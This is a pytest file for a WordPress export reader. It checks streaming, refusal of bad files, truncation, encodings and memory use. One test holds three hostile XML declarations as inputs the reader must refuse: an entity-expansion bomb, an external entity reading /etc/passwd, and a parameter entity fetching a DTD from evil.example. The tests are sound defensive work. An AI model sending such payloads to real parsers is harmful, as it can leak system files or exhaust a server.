"""Exports are read as a stream, and a bad one says what is wrong with it."""

import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from masthead.importers.wordpress.reader import NotAnExport, read
from masthead.importers.wordpress.records import Channel, Item, Term, Trouble, Writer
from masthead.importers.wordpress.tests.factories import HEAD, category, export, item, meta


def items_of(path):
    return [record for record in read(path) if isinstance(record, Item)]


def troubles_of(path):
    return [record.message for record in read(path) if isinstance(record, Trouble)]


@pytest.fixture
def path(tmp_path):
    return tmp_path / "export.xml"


def test_it_reads_the_site_its_authors_terms_and_items(path):
    head = (
        "<wp:author><wp:author_login>ada</wp:author_login><wp:author_display_name><![CDATA[Ada Quill]]>"
        "</wp:author_display_name></wp:author><wp:category><wp:term_id>3</wp:term_id>"
        "<wp:category_nicename>harbour</wp:category_nicename><wp:cat_name>Harbour</wp:cat_name></wp:category>"
        "<wp:tag><wp:tag_slug>boats</wp:tag_slug><wp:tag_name>Boats</wp:tag_name></wp:tag>"
    )
    export(path, [item(7, "Low tide", more=category("harbour") + meta("mood", "calm"))], head=head)
    records: list[Any] = list(read(path))
    channel, writer, first, second, story = records
    assert (channel.title, channel.blog_url, channel.version) == (
        "The Old Lantern",
        "https://old.example",
        "1.2",
    )
    assert writer == Writer("ada", "Ada Quill")
    assert (first.taxonomy, first.slug, second.taxonomy, second.name) == (
        "category",
        "harbour",
        "post_tag",
        "Boats",
    )
    assert (story.post_id, story.title, story.terms[0].slug) == ("7", "Low tide", "harbour")
    assert story.meta_value("mood") == "calm"


def test_an_item_without_fields_is_still_an_item(path):
    export(path, ["<item></item>"])
    assert items_of(path) == [Item(number=1)]


def test_comments_lie_in_their_item(path):
    comment = "<wp:comment><wp:comment_content>Well said</wp:comment_content></wp:comment>"
    export(path, [item(7, more=comment)])
    assert items_of(path)[0].comments[0].content == "Well said"


def test_categories_of_the_oldest_version_are_read_once(path):
    export(
        path,
        [
            item(
                7,
                more="<category>Boats</category>" + category("boats", "Boats") + "<category>Nets</category>",
            )
        ],
    )
    assert [(use.slug, use.name) for use in items_of(path)[0].terms] == [("boats", "Boats"), ("", "Nets")]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "is empty"),
        (b"{}", "is not XML"),
        (b"just words", "is not XML"),
        (b"<!DOCTYPE html><html><body><p>x<br></body></html>", "is not XML"),
        (b"PK\x03\x04zip", "packed"),
        (b"\x1f\x8b\x08gzip", "packed"),
        (
            b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>x</title></item></channel></rss>',
            "not a WordPress",
        ),
        (b"<a/>", "not a WordPress"),
        (b"<rss><channel><title>Fish & chips</title>", "is damaged at line 1"),
        (b"\x00\x01\x02\xff\xfe", "is not XML"),
    ],
)
def test_a_file_that_is_no_export_is_refused_by_name(path, content, reason):
    path.write_bytes(content)
    with pytest.raises(NotAnExport, match=reason) as refusal:
        list(read(path))
    assert "export.xml" in str(refusal.value)


def test_a_file_that_is_not_there_is_refused_by_name(path):
    with pytest.raises(NotAnExport, match=r"export\.xml cannot be read: No such file .*\. Check the name"):
        list(read(path))


def test_a_folder_is_refused_by_name(tmp_path):
    with pytest.raises(NotAnExport, match=r"cannot be read: .*\. That is a directory; name a file in it"):
        list(read(tmp_path))


LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % more SYSTEM "http://evil.example/x.dtd">%more;]>'


@pytest.mark.parametrize("declaration", [LAUGHS, OUTSIDE, PARAMETER])
def test_declared_entities_are_refused(path, declaration):
    export(path, [item(1, content="x")])
    path.write_text(path.read_text().replace("<rss", declaration + "<rss", 1))
    with pytest.raises(NotAnExport, match="declares entities"):
        list(read(path))


def test_what_stands_before_a_cut_is_kept_and_the_cut_is_named(path):
    export(path, [item(1, "First"), item(2, "Second"), item(3, "Third")])
    whole = path.read_text()
    path.write_text(whole[: whole.index("Third") + 3])
    assert [story.title for story in items_of(path)] == ["First", "Second"]
    [trouble] = troubles_of(path)
    assert "breaks off" in trouble
    assert "post 2 “Second”" in trouble


def test_a_cut_anywhere_is_never_a_traceback(path, tmp_path):
    export(path, [item(1, "First", content="Fish &amp; chips"), item(2, "Second")])
    whole = path.read_bytes()
    cut = tmp_path / "cut.xml"
    for length in range(0, len(whole), 37):
        cut.write_bytes(whole[:length])
        try:
            assert len(items_of(cut)) <= 2
        except NotAnExport:
            assert length < whole.index(b"<channel>") + 500  # nothing of WordPress's had been read


def test_an_unknown_version_is_named_and_read_all_the_same(path):
    export(path, [item(1, "First")], version="9.7")
    assert "“9.7”" in troubles_of(path)[0]
    assert len(items_of(path)) == 1


def test_control_characters_are_taken_out_and_the_item_says_so(path):
    export(path, [item(1, "Be\x07fore", content="a\x00b&#x8;c\x1f"), item(2, "Clean")])
    first, second = items_of(path)
    assert (first.title, first.content) == ("Before", "abc")
    assert "4 control characters" in first.repairs[0]
    assert second.repairs == ()


def test_html_entities_outside_of_their_place_are_read(path):
    export(
        path, [item(1).replace("<title><![CDATA[]]></title>", "<title>Caf&eacute;&nbsp;&amp; bar</title>")]
    )
    assert items_of(path)[0].title == "Café\u00a0& bar"


def test_entities_of_the_content_stay_as_written(path):
    export(path, [item(1, content="&lt;b&gt; &amp;amp; 1 &#60; 2")])
    assert items_of(path)[0].content == "&lt;b&gt; &amp;amp; 1 &#60; 2"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_the_declared_encoding_is_used(path, encoding):
    export(path, [item(1, "Über")])
    named = "utf-16" if encoding == "utf-16" else encoding.removesuffix("-sig")
    path.write_bytes(path.read_text().replace("UTF-8", named, 1).encode(encoding))
    assert items_of(path)[0].title == "Über"


def test_bytes_that_are_no_text_are_replaced_and_named(path):
    export(path, [item(1, "Story")])
    path.write_bytes(path.read_bytes().replace(b"Story", b"St\xc3ory"))
    story = items_of(path)[0]
    assert story.title == "St\N{REPLACEMENT CHARACTER}ory"
    assert "replaced" in story.repairs[0]


def test_elements_nested_without_end_stop_the_reading(path):
    export(path, [item(1, "First"), "<item>" + "<x>" * 500 + "</x>" * 500 + "</item>"])
    assert [story.title for story in items_of(path)] == ["First"]
    assert "too deeply" in troubles_of(path)[0]


@pytest.mark.slow
def test_memory_does_not_grow_with_the_file(path):
    def peak(count):
        with path.open("w") as file:
            file.write(HEAD.format(version="1.2"))
            for number in range(count):
                file.write(item(number, f"Story {number}", content="word " * 2000))
            file.write("</channel></rss>")
        tracemalloc.start()
        assert sum(isinstance(record, Item) for record in read(path)) == count
        reached = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return reached

    small, large = peak(50), peak(2000)
    assert Path(path).stat().st_size > 20_000_000
    assert large < small * 1.2


def test_channel_and_terms_come_before_items(path):
    export(path, [item(1)], head="<wp:tag><wp:tag_slug>a</wp:tag_slug></wp:tag>")
    assert [type(record) for record in read(path)] == [Channel, Term, Item]
